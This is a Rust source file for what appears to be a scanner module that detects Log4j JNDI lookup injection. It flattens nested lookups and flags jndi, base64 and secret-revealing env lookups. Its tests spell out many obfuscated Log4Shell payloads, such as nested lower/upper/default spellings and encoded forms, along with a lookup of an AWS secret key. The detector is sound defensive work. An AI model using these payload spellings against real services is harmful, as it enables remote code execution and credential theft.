//! Lookups of Log4j: `${jndi:…}` in all the ways that lookups in lookups can spell it.
//!
//! The text is flattened as Log4j does it, from the inside out: `${lower:J}` is `j`, `${::-n}`
//! and `${env:NONE:-n}` are `n`, any other lookup is taken as empty.
use crate::family::Confidence;
use crate::finding::Match;
use crate::text::{Classes, Text};
use crate::work::Work;

/// What wakes it: all classes of one entry.
pub(crate) const WAKE: &[Classes] =
    &[Classes::DOLLAR.with(Classes::BRACE).with(Classes::COLON).with(Classes::OPENER)];
/// What wakes it whatever the classes; in lower case, at least four bytes each.
pub(crate) const LITERALS: &str = "";

/// Lookups in lookups that are followed; deeper ones are an attack by themselves.
const DEPTH_MAX: usize = 32;

/// Judges one decoding of a text.
pub(crate) fn inspect(text: &Text<'_>, work: &mut Work) -> Option<Match> {
    work.spend(text.lower.len() as u64 / 8).ok()?;
    memchr::memmem::find(text.lower, b"${")?;
    work.spend(3 * text.lower.len() as u64).ok()?;
    // The settings of a logger have lookups, too.
    let is_sure = |found: &Match| !text.role.is_free() || found.confidence == Confidence::High;
    judge_all(text).or_else(|| only_a_variable(text)).filter(is_sure)
}

/// Whether a variable's value is all that a text asks for: templates put it among other words.
fn only_a_variable(text: &Text<'_>) -> Option<Match> {
    let name = text.bytes.trim_ascii().strip_prefix(b"${env:")?.strip_suffix(b"}")?;
    let is_name = |byte: &u8| byte.is_ascii_uppercase() || byte.is_ascii_digit() || *byte == b'_';
    let is_variable = !name.is_empty() && name.iter().all(is_name);
    is_variable.then(|| Match::medium("information-lookup"))
}

fn judge_all(text: &Text<'_>) -> Option<Match> {
    let mut flattened = Flattened::default();
    let mut rest = text.lower;
    while let Some((&byte, after)) = rest.split_first() {
        rest = after;
        match byte {
            b'$' if after.first() == Some(&b'{') => {
                rest = after.get(1..).unwrap_or_default();
                flattened.open.push(flattened.out.len());
                if flattened.open.len() > DEPTH_MAX {
                    return Some(Match::high("nested-lookups"));
                }
            }
            b'}' => {
                if let Some(found) = flattened.close() {
                    return Some(found);
                }
            }
            // A lookup's value may end in the sign that begins the next one.
            b'{' if flattened.ends_in_dollar() => {
                flattened.out.pop();
                flattened.open.push(flattened.out.len());
            }
            _ => flattened.out.push(byte),
        }
    }
    // A lookup that is not closed here may be closed by what the text is put into.
    let last = flattened.open.iter().find_map(|&start| judge(flattened.out.get(start..)?));
    last.or_else(|| flattened.is_obfuscated().then(|| Match::medium("obfuscated-lookup")))
}

/// The text as far as it was read, and where the open lookups start in it.
#[derive(Default)]
struct Flattened {
    out: Vec<u8>,
    open: Vec<usize>,
    /// How many lookups gave a single character: nobody but an attacker needs them.
    letters: usize,
    /// How many had neither a kind nor a name.
    nameless: usize,
}

impl Flattened {
    /// Puts its value in the innermost lookup's place.
    fn close(&mut self) -> Option<Match> {
        let Some(start) = self.open.pop() else {
            self.out.push(b'}');
            return None;
        };
        let content = self.out.get(start..).unwrap_or_default();
        let found = judge(content);
        let value = value(content).to_vec();
        if value.len() == 1 {
            self.letters += 1;
        }
        // A default for what has no name: a way to write the default, and nothing else.
        self.nameless += usize::from(content.starts_with(b"::-"));
        self.out.truncate(start);
        // The dotless i has the usual one as its capital.
        if value == "ı".as_bytes() {
            self.out.push(b'i');
        } else {
            self.out.extend_from_slice(&value);
        }
        found
    }

    fn is_obfuscated(&self) -> bool {
        self.letters >= 3 || self.nameless >= 2
    }

    /// Whether the innermost lookup's text so far ends in a dollar sign.
    fn ends_in_dollar(&self) -> bool {
        let start = self.open.last().copied().unwrap_or_default();
        self.out.get(start..).is_some_and(|text| text.ends_with(b"$"))
    }
}

/// Whether a lookup's content asks a directory.
fn judge(content: &[u8]) -> Option<Match> {
    let content = content.trim_ascii();
    let is_jndi = content.strip_prefix(b"jndi").map(<[u8]>::trim_ascii_start);
    if is_jndi.is_some_and(|rest| rest.starts_with(b":")) {
        return Some(Match::high("jndi-lookup"));
    }
    if content.strip_prefix(b"base64:").is_some_and(|text| text.len() >= 8) {
        return Some(Match::high("encoded-lookup"));
    }
    // What gives the environment's secrets away when it is logged.
    let tells = KINDS.iter().find_map(|kind| content.strip_prefix(*kind)).is_some_and(is_name);
    let secret = content.strip_prefix(b"env:").is_some_and(names_a_secret);
    (tells || secret).then(|| Match::medium("information-lookup"))
}

/// Lookups that give away what the process knows (Apache Log4j manual, "Lookups"), and those of
/// Apache Commons Text that run or fetch something. `env` is one of other templates too.
const KINDS: [&[u8]; 24] = [
    b"bundle:",
    b"ctx:",
    b"docker:",
    b"event:",
    b"java:",
    b"jvmrunargs:",
    b"k8s:",
    b"log4j:",
    b"main:",
    b"map:",
    b"marker:",
    b"sd:",
    b"spring:",
    b"sys:",
    b"web:",
    b"script:",
    b"dns:",
    b"url:utf-8:",
    b"file:utf-8:",
    b"const:",
    b"properties:",
    b"resourcebundle:",
    b"urldecoder:",
    b"base64decoder:",
];

/// Whether a lookup asks for something by a name, and is no sentence.
fn is_name(name: &[u8]) -> bool {
    (1..=256).contains(&name.len()) && name.iter().all(u8::is_ascii_graphic)
}

/// Whether a variable's name says that it holds a secret.
fn names_a_secret(name: &[u8]) -> bool {
    const WORDS: [&[u8]; 9] = [
        b"secret",
        b"token",
        b"passw",
        b"_key",
        b"credential",
        b"apikey",
        b"aws_",
        b"lambda_",
        b"tollgate_",
    ];
    WORDS.iter().any(|word| memchr::memmem::find(name, word).is_some())
}

/// What a lookup stands for.
fn value(content: &[u8]) -> &[u8] {
    if let Some(at) = content.windows(2).position(|pair| pair == b":-") {
        return content.get(at + 2..).unwrap_or_default();
    }
    for case in [b"lower:".as_slice(), b"upper:"] {
        if let Some(text) = content.strip_prefix(case) {
            return text;
        }
    }
    // A date's format may be a quoted text.
    match content.strip_prefix(b"date:") {
        Some(format) => {
            format.strip_prefix(b"'").unwrap_or(format).strip_suffix(b"'").unwrap_or(format)
        }
        None => b"",
    }
}

#[cfg(test)]
mod tests {
    use crate::{Families, Family, Role, Work, inspect_text};

    fn is_found(text: &str) -> bool {
        let mut found = false;
        let families = Families::from_iter([Family::Log4j]);
        let mut work = Work::default();
        inspect_text(text.as_bytes(), Role::Value, families, &mut work, &mut |_| found = true)
            .unwrap();
        found
    }

    #[test]
    fn every_spelling_of_the_lookup_is_found() {
        for text in [
            "${jndi:ldap://192.0.2.1/a}",
            "x ${ jndi:rmi://a} y",
            "${${lower:J}nd${upper:i}:dns://a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://a}",
            "${${env:NONE:-j}ndi${env:NONE:-:}${env:NONE:-l}dap${env:NONE:-:}//a}",
            "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://a}",
            "${jnd${upper:ı}:ldap://a}",
            "$${jndi:ldap://a}",
            "${${date:'j'}ndi:ldap://a}",
            "%24%7Bjndi%3aldap://a%7D",
            "\\u0024{jndi:ldap://a}",
            "&#36;{jndi:ldap://a}",
            "${jndi:ldap://a",
            "${${lower:${lower:j}}ndi:ldap://a",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "${${::-a}${::-b}${::-c}}",
        ] {
            assert!(is_found(text), "{text}");
        }
    }

    #[test]
    fn other_templates_pass() {
        for text in [
            "${name}",
            "Hello ${user.name}, it costs $5 {net}: thanks",
            "${PATH:-/usr/bin}",
            "${env:HOME}/bin",
            "JNDI: the Java naming interface",
            "}}}} ${a:b}",
            "$ {jndi:ldap}",
        ] {
            assert!(!is_found(text), "{text}");
        }
    }
}
